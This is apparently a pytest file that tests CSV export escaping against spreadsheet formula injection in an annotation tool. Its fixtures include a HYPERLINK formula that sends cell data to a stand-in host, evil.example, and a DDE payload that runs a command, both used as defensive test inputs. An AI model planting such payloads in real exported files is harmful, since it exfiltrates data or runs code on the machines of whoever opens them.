"""CSV safe to double-click: span, matrix, search and statistics CSVs neutralise text cells a
spreadsheet would run as a formula (OWASP), keep numbers (negative ones too) as numbers,
and write the exact text with ``raw``."""

from __future__ import annotations

import csv
import io

import pytest

from annotator.core.codebook import AttributeField
from annotator.core.model import NewDocument
from annotator.core.search import Hit, write_csv
from annotator.core.spreadsheet import SpreadsheetWriter, safe_cell
from annotator.io.export import export_spans
from annotator.io.matrix import write_matrix

FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
DDE = "=cmd|' /C calc'!A0"
TEXT = f"{DDE} opens a calculator.\n@SUM(1+1) and +1+2 and -2+3 and\tTAB and plain words."


@pytest.mark.parametrize("cell, shown", [
    ("=1+1", "'=1+1"), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("plain", "plain"), ("", ""), ("a=b", "a=b"),
    ("-0.5", "-0.5"), ("+3", "+3"), ("-1e-3", "-1e-3"), (-0.5, -0.5), (3, 3), (None, None),
])
def test_safe_cell_guards_text_and_leaves_numbers(cell, shown):
    assert safe_cell(cell) == shown


def test_the_writer_guards_and_quotes_as_rfc_4180_and_raw_writes_as_is():
    out = io.StringIO()
    SpreadsheetWriter(out, lineterminator="\n").writerow([DDE, -1, "-1", 'say "hi"'])
    assert out.getvalue() == "'=cmd|' /C calc'!A0,-1,-1,\"say \"\"hi\"\"\"\n"
    raw = io.StringIO()
    SpreadsheetWriter(raw, raw=True, lineterminator="\n").writerow([DDE])
    assert raw.getvalue() == f"{DDE}\n"


@pytest.fixture
def hostile(project):
    doc_id = project.add_document(NewDocument(text=TEXT, title=FORMULA, source="@outlet"))
    coder = project.ensure_coder("-ana")
    code = project.add_code("+danger", attributes=(AttributeField("note", "text"), AttributeField("n", "number")))
    project.add_span(doc_id, code.id, coder.id, 0, len(DDE), memo="=memo()", attributes={"note": "@x", "n": -0.5})
    return project


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_span_csv_neutralises_text_cells_and_keeps_numbers(hostile, tmp_path):
    path = tmp_path / "spans.csv"
    export_spans(hostile, "csv", path, bom=True)
    [row] = rows_of(path.read_text(encoding="utf-8"))
    assert row["document_title"] == "'" + FORMULA
    assert row["outlet"] == "'@outlet" and row["coder"] == "'-ana" and row["code"] == "'+danger"
    assert row["text"] == "'" + DDE and row["memo"] == "'=memo()"
    assert row["attr:note"] == "'@x" and row["attr:n"] == "-0.5"  # a negative number stays a number
    assert row["start"] == "0"
    # every text cell of the file: none starts with a formula character
    for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
        for cell in line:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r") and (cell[:1] != "-" or cell == "-0.5")


def test_raw_span_csv_and_jsonl_keep_the_exact_text(hostile, tmp_path):
    export_spans(hostile, "csv", tmp_path / "raw.csv", raw=True)
    [row] = rows_of((tmp_path / "raw.csv").read_text(encoding="utf-8"))
    assert (row["document_title"], row["text"], row["coder"]) == (FORMULA, DDE, "-ana")
    export_spans(hostile, "jsonl", tmp_path / "spans.jsonl")
    assert f'"text": "{DDE}"' in (tmp_path / "spans.jsonl").read_text(encoding="utf-8")


def test_matrix_csv_neutralises_titles_and_keeps_coverage_numbers(hostile):
    out = io.StringIO()
    write_matrix(hostile, out, value="coverage")
    [row] = rows_of(out.getvalue())
    assert row["title"] == "'" + FORMULA and row["outlet"] == "'@outlet" and row["coder"] == "'-ana"
    assert float(row["c_danger"] if "c_danger" in row else row["danger"]) > 0
    raw = io.StringIO()
    write_matrix(hostile, raw, raw=True)
    assert rows_of(raw.getvalue())[0]["title"] == FORMULA


def test_search_csv_neutralises_contexts_and_hits():
    hit = Hit(1, 0, 4, "", DDE, "@SUM(1+1)", FORMULA, "+outlet")
    out = io.StringIO()
    write_csv([hit], out)
    [row] = rows_of(out.getvalue())
    assert (row["hit"], row["right"], row["article"], row["outlet"]) == (
        "'" + DDE, "'@SUM(1+1)", "'" + FORMULA, "'+outlet")
    raw = io.StringIO()
    write_csv([hit], raw, raw=True)
    assert rows_of(raw.getvalue())[0]["hit"] == DDE
